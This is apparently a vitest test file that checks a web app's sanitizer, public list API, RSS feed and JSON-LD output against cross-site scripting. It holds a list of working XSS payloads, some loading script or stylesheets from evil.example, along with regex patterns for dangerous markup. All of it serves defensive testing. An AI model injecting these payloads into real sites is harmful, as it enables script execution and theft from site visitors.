import { beforeAll, describe, expect, it } from "vitest";
import { GET as publicList } from "@/app/api/public/content-lists/[slug]/route";
import { GET as publicLists } from "@/app/api/public/content-lists/route";
import { GET as rss } from "@/app/rss.xml/route";
import { sanitizeRichText } from "@/lib/sanitize";
import { articleJsonLd } from "@/lib/seo/json-ld";
import { serializeJsonLd } from "@/lib/seo/serialize-json-ld";
import { openTestDatabase } from "@/tests/support/integration/users";
import { call, createList } from "@/tests/support/integration/fixtures";

// Known ways to run script through HTML: each goes in as a list's body (and title and author, where
// plain text belongs), and must come out harmless wherever the list is shown or served.
const XSS_VECTORS = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<img src=x onerror=alert(1)>",
  "<img src=\"javascript:alert(1)\">",
  "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
  "<a href=\"javascript:alert(1)\">x</a>",
  "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
  "<a href=\"&#106;avascript:alert(1)\">x</a>",
  "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
  "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
  "<a href=\"vbscript:msgbox(1)\">x</a>",
  "<svg onload=alert(1)><circle r=1></svg>",
  "<svg><script>alert(1)</script></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<iframe src=\"https://evil.example\"></iframe>",
  "<object data=\"javascript:alert(1)\"></object>",
  "<embed src=\"javascript:alert(1)\">",
  "<body onload=alert(1)>",
  "<div style=\"background:url(javascript:alert(1))\">x</div>",
  "<p onclick=\"alert(1)\">click</p>",
  "<form action=\"javascript:alert(1)\"><button>go</button></form>",
  "<input autofocus onfocus=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<img src=x onerror=alert(1)//",
  "<<script>script>alert(1)<</script>/script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
  "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
  "<style>@import 'javascript:alert(1)';</style>",
  "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
  "<base href=\"https://evil.example/\">",
  "<link rel=stylesheet href=\"https://evil.example/x.css\">",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "%3Cscript%3Ealert(1)%3C/script%3E",
  "</script><script>alert(1)</script>",
];

/** What must never appear in HTML that reaches a browser. */
function expectHarmlessHtml(html: string, label: string) {
  expect(html, label).not.toMatch(/<\s*(script|iframe|object|embed|svg|math|style|meta|base|link|form|input|body|noscript)\b/i);
  expect(html, label).not.toMatch(/\son[a-z]+\s*=/i);
  expect(html, label).not.toMatch(/(href|src|action|data)\s*=\s*["']?\s*(javascript|vbscript|data):/i);
  expect(html, label).not.toMatch(/style\s*=/i);
}

beforeAll(openTestDatabase);

describe("script through list content", () => {
  it.each(XSS_VECTORS)("the sanitizer disarms %s", (vector) => {
    expectHarmlessHtml(sanitizeRichText(vector), vector);
    expectHarmlessHtml(sanitizeRichText(`<p>before</p>${vector}<p>after</p>`), vector);
  });

  it("a body stored unsanitized still leaves the API, the list endpoint and RSS harmless", async () => {
    const lists = [];
    for (const [index, vector] of XSS_VECTORS.entries()) {
      lists.push(await createList({ slug: `vector-${index}`, title: `Vector ${index} ${vector}`, author: vector, content: `<p>Item</p>${vector}` }));
    }
    for (const list of lists) {
      const one = await call<{ content: string; title: string }>(publicList, `/api/public/content-lists/${list.slug}`, { slug: list.slug });
      expect(one.status).toBe(200);
      expectHarmlessHtml(one.body.content, list.slug);
    }
    const page = await call<{ content: string }[] | { items: { content: string }[] }>(publicLists, "/api/public/content-lists?limit=100");
    const items = Array.isArray(page.body) ? page.body : page.body.items;
    for (const item of items) expectHarmlessHtml(item.content, "list of lists");

    const feed = await call(rss, "/rss.xml");
    expect(feed.status).toBe(200);
    // In XML every < of the markup inside an item is escaped (or inside CDATA, which a reader treats as text).
    const withoutCdata = feed.text.replace(/<!\[CDATA\[[\s\S]*?\]\]>/g, "");
    expect(withoutCdata).not.toMatch(/<\s*(script|img|svg|iframe|a)\b/i);
    for (const match of feed.text.matchAll(/<!\[CDATA\[([\s\S]*?)\]\]>/g)) expectHarmlessHtml(match[1], "rss item");
  });

  it.each(XSS_VECTORS)("structured data cannot close its script tag with %s", (vector) => {
    const json = serializeJsonLd(
      articleJsonLd({ title: vector, slug: "x", description: vector, imageUrl: "/x.png", updatedAt: new Date(), publishedAt: null, author: vector, authorOrg: vector, expert: null, siteTitle: vector }),
    );
    expect(json).not.toContain("<");
    expect(JSON.parse(json).headline).toBe(vector.slice(0, 110));
  });
});
